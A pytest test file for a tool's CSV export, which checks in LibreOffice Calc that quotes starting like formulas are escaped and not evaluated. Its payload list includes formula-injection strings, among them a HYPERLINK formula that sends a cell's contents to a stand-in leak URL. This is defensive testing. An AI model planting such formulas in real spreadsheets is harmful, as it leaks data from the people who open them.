"""claims.csv opened in a real spreadsheet engine (LibreOffice Calc, headless, with formula
evaluation on): quotes that begin like formulas stay text, and nothing is evaluated.

A control file written here with the same cells unprotected shows the engine does evaluate
formulas under these settings, so the test can fail.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from logimap.read.starter import write_starter
from tests.conftest import run
from tests.markers import require

pytestmark = pytest.mark.office

TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
# CSV import: comma, double quote, UTF-8, from row 1, ..., and (last) evaluate formulas.
CSV_FILTER = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"
FORMULAS = ["=1+1", "+2+2", "-3+3", "@SUM(1;1)", "\t=4+4",
            '=HYPERLINK("https://example.org/?leak="&A1;"click")']


def soffice() -> str:
    require("office")
    exe = shutil.which("soffice")
    if exe is None:
        if os.environ.get("CI"):
            pytest.fail("LibreOffice is required when CI is set: "
                        "apt-get install libreoffice-calc-nogui")
        pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
    return exe


def opened(path: Path, tmp_path: Path) -> list[list[tuple[str, str | None]]]:
    """Each row's cells as Calc holds them: (shown text, formula or None)."""
    done = subprocess.run([soffice(), "--headless", "--norestore", f"--infilter={CSV_FILTER}",
                           "--convert-to", "fods", "--outdir", str(tmp_path / "calc"), str(path)],
                          capture_output=True, text=True, timeout=120,
                          env={**os.environ, "HOME": str(tmp_path / "home")}, check=False)
    converted = tmp_path / "calc" / f"{path.stem}.fods"
    assert converted.is_file(), done.stderr
    rows = []
    for row in ET.parse(converted).getroot().iter(f"{TABLE}table-row"):
        rows.append([(" ".join("".join(cell.itertext()).split()), cell.get(f"{TABLE}formula"))
                     for cell in row.findall(f"{TABLE}table-cell")])
    return rows


@pytest.fixture(scope="module")
def claims_csv(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """claims.csv of a project whose quotes (and the source they come from) begin with
    formulas."""
    root = tmp_path_factory.mktemp("formulas")
    write_starter(root / "project")
    article = root / "project" / "seeds" / "korea-daily-2025-05-30-msmt-report.txt"
    article.write_text(article.read_text(encoding="utf-8") + "\n" + "\n".join(FORMULAS) + "\n",
                       encoding="utf-8")
    claims = "".join(  # a JSON string is a YAML double-quoted string
        f"\n  - id: formula-{number}\n    what: a formula\n    source: korea-daily-2025-05-30\n"
        f"    quote: {json.dumps(text)}\n" for number, text in enumerate(FORMULAS))
    flow = root / "project" / "routes" / "munitions.yaml"
    flow.write_text(flow.read_text(encoding="utf-8") + claims, encoding="utf-8")
    result = run("export", "--project", str(root / "project"), "--out", str(root / "out"),
                 "--format", "csv")
    assert result.exit_code == 0, result.output
    return root / "out" / "claims.csv"


def test_quotes_beginning_like_formulas_are_written_with_a_leading_apostrophe(claims_csv: Path):
    with open(claims_csv, encoding="utf-8", newline="") as stream:
        quotes = {row["id"]: row["quote"] for row in csv.DictReader(stream)}

    # (a quote is read without the spaces around it, so "\t=4+4" is kept as "=4+4")
    assert [quotes[f"formula-{n}"] for n in range(len(FORMULAS))] == [
        "'=1+1", "'+2+2", "'-3+3", "'@SUM(1;1)", "'=4+4",
        '\'=HYPERLINK("https://example.org/?leak="&A1;"click")']


def test_a_spreadsheet_evaluates_no_formula_from_claims_csv(claims_csv: Path, tmp_path: Path):
    rows = opened(claims_csv, tmp_path)

    assert [cell for row in rows for cell in row if cell[1]] == []
    shown = [text for row in rows for text, _ in row]
    for formula in FORMULAS:
        assert "'" + " ".join(formula.split()) in shown


def test_the_same_cells_unprotected_are_evaluated(tmp_path: Path):
    control = tmp_path / "control.csv"
    with open(control, "w", encoding="utf-8", newline="") as stream:
        csv.writer(stream, lineterminator="\n").writerows([["quote"], ["=1+1"], ["=2*3"]])

    rows = opened(control, tmp_path)

    assert [cell for row in rows for cell in row if cell[1]] == [("2", "of:=1+1"),
                                                                ("6", "of:=2*3")]
